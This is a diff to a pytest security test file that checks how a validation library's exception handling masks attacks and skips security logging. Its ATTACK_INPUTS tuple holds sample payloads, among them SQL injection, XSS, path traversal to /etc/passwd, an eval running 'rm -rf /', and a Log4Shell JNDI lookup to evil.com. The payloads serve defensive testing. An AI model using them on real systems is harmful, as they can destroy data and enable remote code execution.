@@ -12,10 +12,11 @@ Key vulnerabilities tested:
 5. Information disclosure through exception details
 """
 
-# Simple test runner without pytest
+import re
 import sys
-import os
-sys.path.insert(0, os.path.join(os.path.dirname(__file__), 'src'))
+from contextlib import suppress
+
+import pytest
 
 from reasoning_library.validation import (
     validate_dict_schema,
@@ -47,6 +48,51 @@ class SimpleTestRunner:
 _test = SimpleTestRunner()
 
 
+# Mock SecurityError for testing
+class SecurityError(Exception):
+    """Mock security exception for testing."""
+    pass
+
+
+# Case-insensitive leak checks, compiled once instead of lowercasing each
+# error message for every substring test
+_ATTACK_DETECTED_RE = re.compile(r"attack detected", re.IGNORECASE)
+_ATTACK_TYPE_RE = re.compile(r"injection", re.IGNORECASE)
+_ATTACK_CONTENT_RE = re.compile(r"drop table", re.IGNORECASE)
+_INTERNALS_RE = re.compile(r"pattern|regex", re.IGNORECASE)
+_DETECTION_LOGIC_RE = re.compile(r"dangerous|invalid format", re.IGNORECASE)
+_BYPASS_RE = re.compile(r"bypass", re.IGNORECASE)
+_SECURITY_CONTEXT_RE = re.compile(r"malicious|security", re.IGNORECASE)
+
+# Inputs that look like attack attempts and should fail validation
+ATTACK_INPUTS = (
+    "'; DROP TABLE users; --",
+    "<script>alert('xss')</script>",
+    "../../../../etc/passwd",
+    "eval(__import__('os').system('rm -rf /'))",
+    "${jndi:ldap://evil.com/a}",
+)
+
+
+def injection_validator(value):
+    """Custom validator that detects injection attacks."""
+    if "'; DROP TABLE" in str(value):
+        raise SecurityError("SQL injection attempt detected!")
+    return value
+
+
+# Decorated once at import so the signature inspection isn't repeated per test
+@validate_parameters(user_input=injection_validator)
+def process_data(user_input):
+    return f"Processed: {user_input}"
+
+
+@pytest.fixture(scope="session")
+def security_logger():
+    """Shared handle to the global security logger."""
+    return get_security_logger()
+
+
 class TestBroadExceptionHandling:
     """Test cases demonstrating vulnerabilities from broad exception handling."""
 
@@ -74,7 +120,7 @@ class TestBroadExceptionHandling:
 
         # The original security exception information is lost
         error_msg = str(exc_info)
-        if "attack detected" not in error_msg.lower():
+        if _ATTACK_DETECTED_RE.search(error_msg) is None:
             print(f"✅ CONFIRMED: Security context lost: {error_msg}")
         else:
             print(f"❓ UNEXPECTED: Security context preserved: {error_msg}")
@@ -86,16 +132,6 @@ class TestBroadExceptionHandling:
 
         Location: validation.py lines 454-455
         """
-        # Custom validator that detects injection attacks
-        def injection_validator(value):
-            if "'; DROP TABLE" in str(value):
-                raise SecurityError("SQL injection attempt detected!")
-            return value
-
-        @validate_parameters(user_input=injection_validator)
-        def process_data(user_input):
-            return f"Processed: {user_input}"
-
         # VULNERABLE: The decorator catches the SecurityError and converts to generic ValidationError
         malicious_input = "'; DROP TABLE users; --"
 
@@ -104,7 +140,8 @@ class TestBroadExceptionHandling:
 
         # Security context is lost
         error_msg = str(exc_info.value)
-        assert "injection" not in error_msg.lower()  # Attack type lost
+        m = _ATTACK_TYPE_RE.search(error_msg)
+        assert m is None, f"leaked token {m.group(0)}"  # Attack type lost
         assert "validation failed" in error_msg  # Generic message only
 
         print(f"❌ VULNERABILITY: Injection attack masked: {error_msg}")
@@ -157,41 +194,30 @@ class TestBroadExceptionHandling:
 
         # Original exception information (malicious content) is lost
         error_msg = str(exc_info.value)
-        assert "drop table" not in error_msg.lower()  # Attack context masked
+        m = _ATTACK_CONTENT_RE.search(error_msg)
+        assert m is None, f"leaked token {m.group(0)}"  # Attack context masked
 
         print(f"❌ VULNERABILITY: Array operation attack masked: {error_msg}")
 
-    def test_missing_security_logging_for_validation_failures(self):
+    @pytest.mark.parametrize("attack_input", ATTACK_INPUTS)
+    def test_missing_security_logging_for_validation_failures(self, security_logger, attack_input):
         """
         VULNERABILITY: Validation failures that could indicate attack attempts
         are not logged to security monitoring systems.
         """
-        security_logger = get_security_logger()
         initial_metrics = security_logger.get_security_metrics()
 
-        # Simulate multiple validation failures that could be attack attempts
-        attack_inputs = [
-            "'; DROP TABLE users; --",
-            "<script>alert('xss')</script>",
-            "../../../../etc/passwd",
-            "eval(__import__('os').system('rm -rf /'))",
-            "${jndi:ldap://evil.com/a}",
-        ]
+        # Expected to fail, but should be logged as a potential security event
+        with suppress(ValidationError):
+            validate_confidence_value(attack_input)
 
-        for attack_input in attack_inputs:
-            try:
-                # These should be logged as potential security events
-                validate_confidence_value(attack_input)
-            except ValidationError:
-                pass  # Expected to fail, but should be logged for security
-
-        # VULNERABILITY: No security events logged for these suspicious validation failures
+        # VULNERABILITY: No security event logged for this suspicious validation failure
         final_metrics = security_logger.get_security_metrics()
 
         # Security metrics should have increased but didn't
         assert final_metrics["total_events"] == initial_metrics["total_events"]
 
-        print(f"❌ VULNERABILITY: {len(attack_inputs)} attack attempts not logged for security monitoring")
+        print(f"❌ VULNERABILITY: attack attempt not logged for security monitoring: {attack_input}")
 
     def test_information_disclosure_through_exception_details(self):
         """
@@ -213,11 +239,11 @@ class TestBroadExceptionHandling:
         except ValidationError as e:
             error_msg = str(e)
             # VULNERABILITY: May expose internal validation patterns
-            if "pattern" in error_msg.lower() or "regex" in error_msg.lower():
+            if _INTERNALS_RE.search(error_msg):
                 print(f"❌ VULNERABILITY: Internal validation patterns exposed: {error_msg}")
 
             # May expose attack detection mechanisms
-            if "dangerous" in error_msg.lower() or "invalid format" in error_msg.lower():
+            if _DETECTION_LOGIC_RE.search(error_msg):
                 print(f"❌ VULNERABILITY: Attack detection logic exposed: {error_msg}")
 
     def test_validation_bypass_through_exception_handling(self):
@@ -254,7 +280,8 @@ class TestBroadExceptionHandling:
 
         # The bypass attempt was caught but the original intent is lost
         error_msg = str(exc_info.value)
-        assert "bypass" not in error_msg.lower()  # Bypass attempt masked
+        m = _BYPASS_RE.search(error_msg)
+        assert m is None, f"leaked token {m.group(0)}"  # Bypass attempt masked
 
         print(f"❌ VULNERABILITY: Validation bypass attempt masked: {error_msg}")
 
@@ -287,50 +314,14 @@ class TestExceptionChainingAndContext:
 
         # Security context is lost in exception chain
         error_msg = str(exc_info.value)
-        assert "malicious" not in error_msg.lower()  # Security context lost
-        assert "security" not in error_msg.lower()  # Exception type lost
+        # Security context and exception type lost
+        m = _SECURITY_CONTEXT_RE.search(error_msg)
+        assert m is None, f"leaked token {m.group(0)}"
 
         print(f"❌ VULNERABILITY: Security audit trail broken: {error_msg}")
 
 
-# Mock SecurityError for testing
-class SecurityError(Exception):
-    """Mock security exception for testing."""
-    pass
-
 
 if __name__ == "__main__":
     # Run the tests to demonstrate vulnerabilities
-    print("🔍 MAJOR-007: Demonstrating Improper Exception Handling Vulnerabilities")
-    print("=" * 70)
-
-    # Run each test and show vulnerabilities
-    test_methods = [
-        test_validate_dict_schema_masks_validation_errors,
-        test_validate_parameters_decorator_masks_errors,
-        test_safe_divide_silently_ignores_errors,
-        test_safe_array_operation_masks_dangerous_operations,
-        test_missing_security_logging_for_validation_failures,
-        test_information_disclosure_through_exception_details,
-        test_validation_bypass_through_exception_handling,
-        test_exception_chaining_breaks_security_tracing,
-    ]
-
-    test_instance = TestBroadExceptionHandling()
-    test_instance2 = TestExceptionChainingAndContext()
-
-    for i, test_method in enumerate(test_methods, 1):
-        print(f"\n🧪 Test {i}: {test_method.__doc__.split('VULNERABILITY:')[1].strip() if 'VULNERABILITY:' in test_method.__doc__ else test_method.__name__}")
-        print("-" * 50)
-
-        try:
-            test_method(test_instance) if i <= 7 else test_method(test_instance2)
-            print("✅ Vulnerability confirmed")
-        except Exception as e:
-            print(f"⚠️  Test error: {e}")
-
-    print("\n" + "=" * 70)
-    print("🚨 SUMMARY: Multiple critical exception handling vulnerabilities detected!")
-    print("📝 IMPACT: Attack attempts can be masked, security logging is bypassed,")
-    print("   and validation can be bypassed through exception handling.")
-    print("🔧 FIX: Implement specific exception types and proper security logging.")
\ No newline at end of file
+    sys.exit(pytest.main([__file__, "-v", "-s"]))